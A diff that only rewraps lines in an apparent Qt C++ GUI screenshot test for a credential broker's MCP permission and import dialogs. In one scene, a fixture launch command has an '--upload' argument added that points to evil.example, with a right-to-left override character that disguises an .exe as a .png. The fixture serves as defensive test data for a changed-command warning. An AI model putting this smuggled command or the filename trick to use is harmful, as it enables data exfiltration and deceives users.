@@ -44,7 +44,9 @@ public:
             return {};
         const QString text = QString::fromUtf8(source);
         const QString filler = u"ümläng wörtlang "_s.repeated(20);
-        return text.isEmpty() ? text : text + u' ' + filler.left(std::max<qsizetype>(text.size() * 2 / 5, 2)).trimmed();
+        return text.isEmpty()
+            ? text
+            : text + u' ' + filler.left(std::max<qsizetype>(text.size() * 2 / 5, 2)).trimmed();
     }
 };
 
@@ -53,7 +55,8 @@ QPalette darkPalette()
     QPalette palette(QColor(45, 45, 48), QColor(45, 45, 48));
     palette.setColor(QPalette::Base, QColor(30, 30, 32));
     palette.setColor(QPalette::AlternateBase, QColor(55, 55, 60));
-    for (const auto role : {QPalette::WindowText, QPalette::Text, QPalette::ButtonText, QPalette::ToolTipText})
+    for (const auto role :
+        {QPalette::WindowText, QPalette::Text, QPalette::ButtonText, QPalette::ToolTipText})
         palette.setColor(role, QColor(230, 230, 230));
     for (const auto role : {QPalette::WindowText, QPalette::Text, QPalette::ButtonText})
         palette.setColor(QPalette::Disabled, role, QColor(130, 130, 130));
@@ -71,10 +74,13 @@ QStringList cutTexts(QWidget *window)
     for (const QLabel *label : labels) {
         if (!label->isVisible() || label->text().isEmpty())
             continue;
-        const int needed = label->wordWrap() ? label->heightForWidth(label->width()) : label->sizeHint().height();
+        const int needed = label->wordWrap() ? label->heightForWidth(label->width())
+                                             : label->sizeHint().height();
         const bool isNarrow = !label->wordWrap() && label->width() < label->sizeHint().width();
         if (label->height() < needed || isNarrow) {
-            cut.append(u"%1x%2, needs height %3: %4"_s.arg(label->width()).arg(label->height()).arg(needed)
+            cut.append(u"%1x%2, needs height %3: %4"_s.arg(label->width())
+                           .arg(label->height())
+                           .arg(needed)
                            .arg(label->text().left(60)));
         }
         const QRect inWindow(label->mapTo(window, QPoint()), label->size());
@@ -101,11 +107,13 @@ QStringList namelessControls(QWidget *window)
     QStringList nameless;
     const auto widgets = window->findChildren<QWidget *>();
     for (QWidget *widget : widgets) {
-        if (!widget->isVisible() || widget->focusPolicy() == Qt::NoFocus || widget->objectName().startsWith("qt_"_L1))
+        if (!widget->isVisible() || widget->focusPolicy() == Qt::NoFocus
+            || widget->objectName().startsWith("qt_"_L1))
             continue;
         QAccessibleInterface *accessible = QAccessible::queryAccessibleInterface(widget);
         if (accessible && accessible->text(QAccessible::Name).isEmpty())
-            nameless.append(QString::fromUtf8(widget->metaObject()->className()) + u' ' + widget->objectName());
+            nameless.append(
+                QString::fromUtf8(widget->metaObject()->className()) + u' ' + widget->objectName());
     }
     return nameless;
 }
@@ -123,8 +131,8 @@ private:
     ClipboardKeeper m_clipboard;
     LongTexts m_longTexts;
     QPalette m_light;
-    const CredentialRef m_credential {u"github"_s, u"GitHub"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s, u"GitHub"_s,
-        u"GitHub settings (https://github.com/settings/tokens)"_s};
+    const CredentialRef m_credential {u"github"_s, u"GitHub"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s,
+        u"GitHub"_s, u"GitHub settings (https://github.com/settings/tokens)"_s};
 
     using Maker = QDialog *(GalleryTest::*)();
 
@@ -137,11 +145,13 @@ private:
     QDialog *accessChanged()
     {
         auto request = test::launchRequest();
-        request.command = {u"npx"_s, u"-y"_s, u"@modelcontextprotocol/server-github"_s, u"--upload"_s,
-            u"https://evil.example/\u202Egnp.exe"_s};
-        request.changes = {{policy::Change::Kind::Command, u"npx -y @modelcontextprotocol/server-github"_s,
-                               request.command.join(u' ')},
-            {policy::Change::Kind::Application, u"/usr/share/cursor/cursor"_s, u"/usr/share/cursor/cursor"_s}};
+        request.command = {u"npx"_s, u"-y"_s, u"@modelcontextprotocol/server-github"_s,
+            u"--upload"_s, u"https://evil.example/\u202Egnp.exe"_s};
+        request.changes = {
+            {policy::Change::Kind::Command, u"npx -y @modelcontextprotocol/server-github"_s,
+                request.command.join(u' ')},
+            {policy::Change::Kind::Application, u"/usr/share/cursor/cursor"_s,
+                u"/usr/share/cursor/cursor"_s}};
         return access(request);
     }
     QDialog *accessHuge()
@@ -202,11 +212,12 @@ private:
     {
         auto *dialog = new TestDialog(m_credential);
         broker::ControlReply reply;
-        reply.body = test::wizardJson("{'checks':[{'check':'stored','ok':true,'skipped':false,'detail':''},"
-                                      "{'check':'form','ok':true,'skipped':false,'detail':''},"
-                                      "{'check':'start','ok':true,'skipped':false,'detail':''},"
-                                      "{'check':'initialize','ok':false,'skipped':false,'detail':'401 Bad credentials'},"
-                                      "{'check':'tools','ok':false,'skipped':true,'detail':''}]}");
+        reply.body = test::wizardJson(
+            "{'checks':[{'check':'stored','ok':true,'skipped':false,'detail':''},"
+            "{'check':'form','ok':true,'skipped':false,'detail':''},"
+            "{'check':'start','ok':true,'skipped':false,'detail':''},"
+            "{'check':'initialize','ok':false,'skipped':false,'detail':'401 Bad credentials'},"
+            "{'check':'tools','ok':false,'skipped':true,'detail':''}]}");
         dialog->showReply(Result<broker::ControlReply>(std::move(reply)));
         return dialog;
     }
@@ -257,22 +268,30 @@ private Q_SLOTS:
         m_control.answer(u"import.scan"_s, test::samplePlan());
         m_control.answer(u"import.preview"_s, test::samplePreview());
         m_control.answer(u"import.apply"_s,
-            test::wizardJson("{'files':[{'path':'/home/ada/.cursor/mcp.json','client':'cursor','ok':true,"
-                             "'error':null,'servers':['github','postgres'],'secretsMoved':3,'notes':['in-git']},"
-                             "{'path':'/home/ada/work/.mcp.json','client':'claude-code','ok':false,"
-                             "'error':{'code':'file-changed','subject':'/home/ada/work/.mcp.json'},"
-                             "'servers':[],'secretsMoved':0,'notes':[]}]}"));
-        m_control.answer(u"import.watch"_s, test::wizardJson("{'clients':[{'client':'cursor','launchedAt':5}]}"));
+            test::wizardJson(
+                "{'files':[{'path':'/home/ada/.cursor/mcp.json','client':'cursor','ok':true,"
+                "'error':null,'servers':['github','postgres'],'secretsMoved':3,'notes':['in-git']},"
+                "{'path':'/home/ada/work/.mcp.json','client':'claude-code','ok':false,"
+                "'error':{'code':'file-changed','subject':'/home/ada/work/.mcp.json'},"
+                "'servers':[],'secretsMoved':0,'notes':[]}]}"));
+        m_control.answer(u"import.watch"_s,
+            test::wizardJson("{'clients':[{'client':'cursor','launchedAt':5}]}"));
         m_control.answer(u"clients.list"_s, test::wizardJson("{'clients':[]}"));
         m_control.answer(u"undo.list"_s,
-            test::wizardJson("{'undo':[{'id':'1','client':'cursor','path':'/home/ada/.cursor/mcp.json',"
-                             "'server':'github','key':'github','at':1,'secrets':['GITHUB_PERSONAL_ACCESS_TOKEN'],"
-                             "'state':'in-place','why':{'code':'file-changed','subject':'/home/ada/.cursor/mcp.json'}},"
-                             "{'id':'2','client':'cursor','path':'/home/ada/.cursor/mcp.json','server':'x','key':'x',"
-                             "'at':1,'secrets':[],'state':'gone','why':{'code':'entry-changed','subject':'x'}}]}"));
+            test::wizardJson(
+                "{'undo':[{'id':'1','client':'cursor','path':'/home/ada/.cursor/mcp.json',"
+                "'server':'github','key':'github','at':1,'secrets':['GITHUB_PERSONAL_ACCESS_TOKEN']"
+                ","
+                "'state':'in-place','why':{'code':'file-changed','subject':'/home/ada/.cursor/"
+                "mcp.json'}},"
+                "{'id':'2','client':'cursor','path':'/home/ada/.cursor/"
+                "mcp.json','server':'x','key':'x',"
+                "'at':1,'secrets':[],'state':'gone','why':{'code':'entry-changed','subject':'x'}}]"
+                "}"));
         QJsonObject preview = test::samplePreview();
         preview.insert(u"secrets"_s,
-            QJsonArray {QJsonObject {{u"server"_s, u"github"_s}, {u"name"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s}}});
+            QJsonArray {QJsonObject {
+                {u"server"_s, u"github"_s}, {u"name"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s}}});
         m_control.answer(u"undo.preview"_s, preview);
         m_link = std::make_unique<ControlLink>(m_control, m_clock);
     }
@@ -284,9 +303,9 @@ private Q_SLOTS:
         QTest::addColumn<QString>("name");
         QTest::addColumn<int>("scene");
         int scene = 0;
-        for (const char *name : {"access-first", "access-changed", "access-huge", "access-details", "put-back", "secret",
-                 "reveal", "delete", "vault", "unlock", "test", "undo", "wizard-clients", "wizard-servers",
-                 "wizard-changes", "wizard-done"}) {
+        for (const char *name : {"access-first", "access-changed", "access-huge", "access-details",
+                 "put-back", "secret", "reveal", "delete", "vault", "unlock", "test", "undo",
+                 "wizard-clients", "wizard-servers", "wizard-changes", "wizard-done"}) {
             for (const char *variant : {"light", "dark", "long", "rtl"}) {
                 QTest::addRow("%s-%s", name, variant)
                     << QString::fromLatin1(variant) << QString::fromLatin1(name) << scene;
@@ -300,10 +319,11 @@ private Q_SLOTS:
         QFETCH(QString, name);
         QFETCH(int, scene);
         static constexpr Maker kScenes[] = {&GalleryTest::accessFirst, &GalleryTest::accessChanged,
-            &GalleryTest::accessHuge, &GalleryTest::accessDetails, &GalleryTest::putBack, &GalleryTest::secret,
-            &GalleryTest::reveal, &GalleryTest::confirmDelete, &GalleryTest::vault, &GalleryTest::unlock,
-            &GalleryTest::tested, &GalleryTest::undo, &GalleryTest::wizardClients, &GalleryTest::wizardServers,
-            &GalleryTest::wizardChanges, &GalleryTest::wizardDone};
+            &GalleryTest::accessHuge, &GalleryTest::accessDetails, &GalleryTest::putBack,
+            &GalleryTest::secret, &GalleryTest::reveal, &GalleryTest::confirmDelete,
+            &GalleryTest::vault, &GalleryTest::unlock, &GalleryTest::tested, &GalleryTest::undo,
+            &GalleryTest::wizardClients, &GalleryTest::wizardServers, &GalleryTest::wizardChanges,
+            &GalleryTest::wizardDone};
         dress(variant);
         std::unique_ptr<QDialog> dialog((this->*kScenes[scene])());
         dialog->setAttribute(Qt::WA_DeleteOnClose, false);
